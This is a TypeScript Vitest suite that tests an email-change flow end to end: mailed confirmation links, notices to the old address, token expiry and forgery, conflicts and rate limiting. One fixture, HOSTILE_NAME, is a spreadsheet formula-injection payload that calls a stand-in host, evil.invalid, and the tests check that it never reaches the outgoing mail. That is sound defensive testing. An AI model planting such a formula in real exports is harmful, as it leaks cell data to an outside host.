import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { hashPassword } from "@/lib/auth/password";
import type { ReceivedEmail, SmtpInbox } from "@/lib/notifications/testing/start-smtp-inbox";
import { createPasswordResetToken } from "@/lib/notifications/password-reset-token";
import { expireInThePast, uniqueId } from "@/test/fixtures";
import { type MailWorkerFixture, startMailWorkerFixture } from "@/test/mail-worker-fixture";
import type { NotificationTestDatabase } from "@/test/notification-database";
import { authenticate } from "./authenticate";
import { changePassword } from "./change-password";
import { confirmEmailChange } from "./confirm-email-change";
import { requestEmailChange } from "./request-email-change";
import { requestPasswordReset } from "./request-password-reset";
import { resetPassword } from "./reset-password";

// Changing the email address end to end: the request, its job and two
// emails, the worker, a real SMTP server on loopback, and the link in what
// arrived at the new address.

const APP_URL = "http://localhost:3000";
const PASSWORD = "current password 1";
let t: NotificationTestDatabase;
let inbox: SmtpInbox;
let mail: MailWorkerFixture | undefined;

beforeAll(async () => {
  mail = await startMailWorkerFixture({ appUrl: APP_URL });
  ({ t, inbox } = mail);
});
afterAll(() => mail?.stop());

const DEADLINE = { timeout: 20_000, interval: 100 };
const address = () => `${uniqueId("mail")}@example.test`;
const HOSTILE_NAME = '=HYPERLINK("http://evil.invalid/?"&A1,"Open")';

async function mailTo(email: string, count = 1): Promise<ReceivedEmail[]> {
  await expect.poll(() => inbox.to(email).length, DEADLINE).toBe(count);
  return inbox.to(email);
}

function tokenIn(message: ReceivedEmail): string {
  const match = message.text.match(new RegExp(`${APP_URL}/confirm-email-change\\S*`));
  if (!match) throw new Error(`no confirmation link in: ${message.text}`);
  return new URL(match[0]).searchParams.get("token")!;
}

async function owner() {
  return t.prisma.user.create({ data: { email: address(), name: HOSTILE_NAME, passwordHash: await hashPassword(PASSWORD) } });
}

const account = (id: string) =>
  t.prisma.user.findUniqueOrThrow({ where: { id }, select: { email: true, emailVerified: true, sessionVersion: true } });
const changeJobs = (userId: string) =>
  t.prisma.job.findMany({ where: { jobType: "account.change-email", targetId: userId }, orderBy: { createdAt: "asc" } });

describe("changing the email address", () => {
  test("the link goes to the new address, the current one is told; the link with the password changes the address once and ends every session", async () => {
    const user = await owner();
    const newEmail = address();
    const requested = await requestEmailChange(t.prisma, user.id, { newEmail: newEmail.toUpperCase(), currentPassword: PASSWORD });
    expect(requested.mailed).toBe(true);
    expect((await changeJobs(user.id))[0]).toMatchObject({ id: requested.jobId, status: "pending", metadata: { newEmail } });

    const [link] = await mailTo(newEmail);
    const [notice] = await mailTo(user.email);
    expect(link!.subject).toBe("Confirm your new jtbd email address");
    expect(notice!.subject).toBe("Your jtbd email address is being changed");
    expect(notice!.text).toContain(`${APP_URL}/reset-password`);
    // Nothing anyone typed: not the new address in the old mailbox, not the name in either.
    expect(notice!.raw).not.toContain(newEmail.split("@")[0]);
    for (const message of [link!, notice!]) expect(message.raw).not.toContain("HYPERLINK");

    const token = tokenIn(link!);
    await expect(confirmEmailChange(t.prisma, { token, password: PASSWORD })).resolves.toEqual({ userId: user.id, email: newEmail });
    const after = await account(user.id);
    expect(after).toMatchObject({ email: newEmail, sessionVersion: user.sessionVersion + 1 });
    expect(after.emailVerified).toBeInstanceOf(Date);
    expect((await changeJobs(user.id))[0]).toMatchObject({ status: "completed", completionSource: "user", completedById: user.id });

    await expect(confirmEmailChange(t.prisma, { token, password: PASSWORD })).rejects.toMatchObject({ code: "not_found" });
    expect((await authenticate(t.prisma, { email: newEmail, password: PASSWORD, clientAddress: uniqueId("c") })).ok).toBe(true);
    expect((await authenticate(t.prisma, { email: user.email, password: PASSWORD, clientAddress: uniqueId("c") })).ok).toBe(false);
  });

  test("an address with an account gets the same answer and no email; its owner's account is untouched", async () => {
    const [user, other] = await Promise.all([owner(), owner()]);
    const requested = await requestEmailChange(t.prisma, user.id, { newEmail: other.email, currentPassword: PASSWORD });
    expect(requested).toEqual({ jobId: expect.any(String), mailed: false });
    await mailTo(user.email);
    // The notice to the current address has gone; nothing was queued for the taken one.
    expect(await t.prisma.notification.count({ where: { jobId: requested.jobId } })).toBe(1);
    expect(inbox.to(other.email)).toHaveLength(0);
    expect(await account(other.id)).toMatchObject({ email: other.email });
  });

  test("an address taken between the request and the link is refused and nothing changes; the link stays usable", async () => {
    const user = await owner();
    const newEmail = address();
    await requestEmailChange(t.prisma, user.id, { newEmail, currentPassword: PASSWORD });
    const token = tokenIn((await mailTo(newEmail))[0]!);
    const squatter = await t.prisma.user.create({ data: { email: newEmail } });

    await expect(confirmEmailChange(t.prisma, { token, password: PASSWORD })).rejects.toMatchObject({
      code: "conflict",
      userMessage: expect.stringContaining("your email address was not changed"),
    });
    expect(await account(user.id)).toEqual({ email: user.email, emailVerified: null, sessionVersion: user.sessionVersion });
    expect((await changeJobs(user.id))[0]!.status).toBe("pending");

    await t.prisma.user.delete({ where: { id: squatter.id } });
    await expect(confirmEmailChange(t.prisma, { token, password: PASSWORD })).resolves.toMatchObject({ email: newEmail });
  });

  test.each([
    {
      label: "a wrong current password",
      input: () => ({ newEmail: address(), currentPassword: "not it" }),
      code: "invalid_input",
      field: "currentPassword",
    },
    {
      label: "the address it already has",
      input: (email: string) => ({ newEmail: email, currentPassword: PASSWORD }),
      code: "invalid_input",
      field: "newEmail",
    },
    {
      label: "something that is not an address",
      input: () => ({ newEmail: "not an address", currentPassword: PASSWORD }),
      code: "invalid_input",
      field: "newEmail",
    },
    {
      label: "a NUL in the address",
      input: () => ({ newEmail: "a\u0000b@example.test", currentPassword: PASSWORD }),
      code: "invalid_input",
      field: "newEmail",
    },
    { label: "no password", input: () => ({ newEmail: address(), currentPassword: "" }), code: "invalid_input", field: "currentPassword" },
  ])("a request with $label is refused at its field; no job, no email", async ({ input, code, field }) => {
    const user = await owner();
    await expect(requestEmailChange(t.prisma, user.id, input(user.email))).rejects.toMatchObject({
      code,
      fieldErrors: { [field]: [expect.any(String)] },
    });
    expect(await changeJobs(user.id)).toHaveLength(0);
    expect(await t.prisma.notification.count({ where: { recipientId: user.id } })).toBe(0);
  });

  test.each([
    {
      label: "expired",
      token: async (jobId: string) => {
        await expireInThePast(t.prisma, jobId);
        return null;
      },
    },
    { label: "forged", token: async (jobId: string) => `${jobId}.${"A".repeat(43)}` },
    { label: "a password reset token for the same job", token: async (jobId: string) => createPasswordResetToken(jobId) },
    { label: "cut short", token: async (jobId: string) => jobId },
  ])("a link that is $label is refused and nothing changes", async ({ token }) => {
    const user = await owner();
    const newEmail = address();
    const { jobId } = await requestEmailChange(t.prisma, user.id, { newEmail, currentPassword: PASSWORD });
    const real = tokenIn((await mailTo(newEmail))[0]!);
    const used = (await token(jobId)) ?? real;
    await expect(confirmEmailChange(t.prisma, { token: used, password: PASSWORD })).rejects.toMatchObject({ code: "not_found" });
    expect(await account(user.id)).toMatchObject({ email: user.email, sessionVersion: user.sessionVersion });
  });

  test("a wrong password on the link is refused at its field and leaves the link working", async () => {
    const user = await owner();
    const newEmail = address();
    await requestEmailChange(t.prisma, user.id, { newEmail, currentPassword: PASSWORD });
    const token = tokenIn((await mailTo(newEmail))[0]!);
    await expect(confirmEmailChange(t.prisma, { token, password: "a guess" })).rejects.toMatchObject({
      code: "invalid_input",
      fieldErrors: { password: [expect.any(String)] },
    });
    expect((await account(user.id)).email).toBe(user.email);
    await expect(confirmEmailChange(t.prisma, { token, password: PASSWORD })).resolves.toMatchObject({ email: newEmail });
  });

  test("a newer request replaces the pending one, whose link then does not work", async () => {
    const user = await owner();
    const [first, second] = [address(), address()];
    await requestEmailChange(t.prisma, user.id, { newEmail: first, currentPassword: PASSWORD });
    const firstToken = tokenIn((await mailTo(first))[0]!);
    await requestEmailChange(t.prisma, user.id, { newEmail: second, currentPassword: PASSWORD });
    expect((await changeJobs(user.id)).map((job) => job.status)).toEqual(["cancelled", "pending"]);
    await expect(confirmEmailChange(t.prisma, { token: firstToken, password: PASSWORD })).rejects.toMatchObject({ code: "not_found" });
    await expect(confirmEmailChange(t.prisma, { token: tokenIn((await mailTo(second))[0]!), password: PASSWORD })).resolves.toMatchObject({
      email: second,
    });
  });

  test.each([
    {
      label: "changing the password",
      run: (user: { id: string }) => changePassword(t.prisma, user.id, { currentPassword: PASSWORD, newPassword: "another password 2" }),
    },
    {
      label: "resetting the password",
      run: async (user: { id: string; email: string }) => {
        await requestPasswordReset(t.prisma, { email: user.email, clientAddress: uniqueId("c") });
        const job = await t.prisma.job.findFirstOrThrow({ where: { jobType: "account.reset-password", targetId: user.id } });
        await resetPassword(t.prisma, { token: createPasswordResetToken(job.id), password: "another password 2" });
      },
    },
  ])("$label cancels a pending change", async ({ run }) => {
    const user = await owner();
    await requestEmailChange(t.prisma, user.id, { newEmail: address(), currentPassword: PASSWORD });
    await run(user);
    expect((await changeJobs(user.id)).map((job) => job.status)).toEqual(["cancelled"]);
  });

  test("requests are limited per person", async () => {
    const user = await owner();
    for (let i = 0; i < 5; i++) await requestEmailChange(t.prisma, user.id, { newEmail: address(), currentPassword: PASSWORD });
    await expect(requestEmailChange(t.prisma, user.id, { newEmail: address(), currentPassword: PASSWORD })).rejects.toMatchObject({
      code: "rate_limited",
    });
    expect(await changeJobs(user.id)).toHaveLength(5);
  });
});
